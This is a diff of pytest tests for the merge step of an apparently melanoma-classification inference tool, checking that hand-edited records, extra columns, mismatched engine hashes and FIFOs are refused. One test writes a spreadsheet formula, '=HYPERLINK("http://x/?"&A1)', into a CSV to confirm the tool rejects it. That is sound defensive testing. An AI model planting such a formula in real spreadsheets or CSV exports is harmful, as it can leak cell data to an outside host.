@@ -430,7 +430,14 @@ def test_a_file_added_since_with_a_name_that_is_not_utf8_is_one_line(plain, refe
 
 
 @pytest.mark.parametrize("edit, words", [({"melanoma_threshold": "x"}, "melanoma_threshold must be a number"),
-                                         ({"temperature": "hot"}, "temperature must be a positive number")])
+                                         ({"temperature": "hot"}, "temperature must be a positive number"),
+                                         # each of these was a TypeError or AttributeError traceback
+                                         ({"postprocess": "x"}, "postprocess is 'x', not what infer writes"),
+                                         ({"model_sha1": 5}, "model_sha1 is '5'"),
+                                         ({"failed": 5}, "failed is '5'"), ({"failed": [1]}, "failed is '[1]'"),
+                                         ({"failed": "abc"}, "failed is 'abc'"), ({"images": [1]}, "images is '[1]'"),
+                                         ({"done": 1e300}, "done is '1e+300'"),
+                                         ({"earlier_sessions": {"done": "x"}}, "earlier_sessions.done is 'x'")])
 def test_merge_refuses_a_record_edited_to_values_infer_never_writes(plain, tmp_path, edit, words):
     """A threshold of "x" met the row checks as a TypeError traceback."""
     out = Path(shutil.copytree(plain, tmp_path / "out"))
@@ -537,3 +544,41 @@ def test_rows_edited_since_infer_are_refused_naming_file_and_row(row, run, words
     with pytest.raises(InputError) as caught:
         check_prediction_row(Path("p.csv"), 2, ["a", *row.split(",")], HEADER, run)
     assert str(caught.value).startswith("p.csv: row 2 (a) has") and words in str(caught.value), str(caught.value)
+
+
+def test_merge_refuses_a_part_with_columns_infer_does_not_write(plain, tmp_path):
+    # a column added by hand was copied into predictions.csv unchecked: a spreadsheet formula on
+    # every row, or another order than the ISIC scorer reads
+    out = Path(shutil.copytree(plain, tmp_path / "out"))
+    for k in (1, 2):
+        part = out / f"predictions.part-{k}-of-2.csv"
+        rows = _rows(part)
+        with open(part, "w", newline="") as fh:
+            csv.writer(fh).writerows([rows[0] + ["note"]] + [r + ['=HYPERLINK("http://x/?"&A1)'] for r in rows[1:]])
+    _merge_refused(out, "predictions.part-1-of-2.csv", "are not the ones infer writes")
+
+
+def test_merge_refuses_shards_run_on_different_engine_files(plain, tmp_path):
+    # two exports carrying one model's sha1 but other files merged as one run
+    out = Path(shutil.copytree(plain, tmp_path / "out"))
+    record = json.loads((out / "infer.shard2of2.json").read_text())
+    assert len(record["engine_sha1"]) == 40
+    (out / "infer.shard2of2.json").write_text(json.dumps({**record, "engine_sha1": "0" * 40}))
+    _merge_refused(out, "infer.shard2of2.json", "engine_sha1")
+
+
+def test_a_fifo_where_a_record_is_read_is_one_line_not_a_hang(plain, tmp_path):
+    out = Path(shutil.copytree(plain, tmp_path / "out"))
+    (out / "infer.shard2of2.json").unlink()
+    os.mkfifo(out / "infer.shard2of2.json")
+    _merge_refused(out, "infer.shard2of2.json", "is empty")
+
+
+def test_merge_of_a_one_part_run_has_nothing_to_do(models, reference, tmp_path):  # noqa: F811
+    # a SLURM array of one task (--array=0-0) writes predictions.csv itself; its merge job failed
+    out = tmp_path / "out"
+    _infer_ok(reference["images"], "--out", out, "--model", models["joint"], "--shard", "1/1")
+    before = (out / "predictions.csv").read_bytes()
+    result = runner.invoke(app, ["merge", str(out)])
+    assert result.exit_code == 0 and "nothing to merge" in result.output, result.output
+    assert (out / "predictions.csv").read_bytes() == before
